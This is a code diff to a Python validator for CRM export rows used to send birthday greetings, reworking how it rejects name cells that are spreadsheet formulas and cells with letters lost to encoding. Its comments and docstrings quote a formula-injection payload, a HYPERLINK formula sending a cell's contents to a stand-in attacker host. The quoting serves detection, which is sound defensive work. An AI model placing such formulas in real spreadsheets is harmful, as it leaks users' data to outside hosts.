@@ -9,7 +9,6 @@ rare row holding a Latin-1 byte pair or a '?', and keeps their state.
 
 from __future__ import annotations
 
-import re
 from collections.abc import Callable, Mapping, Sequence
 
 from greeter.errors import Problem
@@ -24,37 +23,9 @@ ProblemAt = Callable[[int, str, str], Problem]
 #: Per name field, the (line, text) of its cells that are UTF-8 read as Latin-1.
 Garbled = dict[str, list[tuple[int, str]]]
 
-#: What a person's name never starts with: a spreadsheet formula's first character (OWASP's list,
-#: as :func:`greeter.console.neutralised` has it, less ``-``): a
-#: CRM writes a lone "-" for "none", and a company may well start with "+" or "@" ("@Home"); a
-#: company is a formula only as ``=`` and a function or a cell: ``=HYPERLINK(``, ``=A1``.
-_PERSON_FORMULA_START = "=+@"
-#: A company cell that is a formula: ``=`` then a function call or a cell reference.
-_COMPANY_FORMULA = re.compile(r"=\s*[A-Za-z_][A-Za-z0-9_.]*\s*\(|=\s*\$?[A-Z]{1,3}\$?\d")
-
-
-def formula_names(
-    cells: Mapping[str, str], line: int, fields: Sequence[str], problem: ProblemAt
-) -> list[Problem]:
-    """An error for each name field that holds a spreadsheet formula (``=HYPERLINK("http://evil…")``,
-    ``=1+2``, ``@SUM(A1)``) — a web form's text a spreadsheet would run, never a name.
-
-    Loaded, it greeted «=1+2 @Сергеевич, с днём рождения!»; and with a '?' in it, it was
-    sent to re-export the file as UTF-8 (:func:`lost_names`). The row is rejected, naming
-    it. Called for every row, so it looks at each field's first character only.
-    """
-    problems = []
-    for name in fields:
-        value = cells[name]
-        if not value or value[0] not in _PERSON_FORMULA_START:
-            continue
-        if name in PERSON_NAME_FIELDS or _COMPANY_FORMULA.match(value) is not None:
-            message = (
-                f"{quoted(value)} is a spreadsheet formula, not a name; the row is not loaded:"
-                " put the name in the CRM's field"
-            )
-            problems.append(problem(line, name, message))
-    return problems
+#: A cell starting with one of these is what a spreadsheet runs as a formula (OWASP's list, as
+#: :func:`greeter.console.neutralised` has it): a name field's ``=HYPERLINK(…?x=…)`` is no lost letters.
+_FORMULA_START = "=+-@"
 
 
 def garbled(
@@ -132,12 +103,20 @@ def lost_names(
     Such a row was loaded (``check: OK``) and greeted «???? ????????, с
     днём рождения!»: it is rejected, saying what lost the letters. Which
     '?' is a lost letter and which a question mark: :func:`lost_in`.
-    A name field starting as a formula lost nothing: :func:`formula_names` rejects it first.
+    A name field starting as a formula (``=HYPERLINK("http://evil.example/?x="&A1,…)``)
+    lost nothing: it is rejected as a formula, not sent to re-export as UTF-8.
     """
     problems = []
     for name in fields:
         value = cells[name]
-        if (
+        if value and value[0] in _FORMULA_START and "?" in value:
+            # =HYPERLINK("http://evil.example/?x="&A1,…) lost no letters: said as what it is.
+            message = (
+                f"{quoted(value)} is a spreadsheet formula, not a name; the row is not loaded:"
+                " put the name in the CRM's field"
+            )
+            problems.append(problem(line, name, message))
+        elif (
             "?" in value
             and (note := lost_in(value, person=name in PERSON_NAME_FIELDS, encoding=encoding)) is not None
         ):
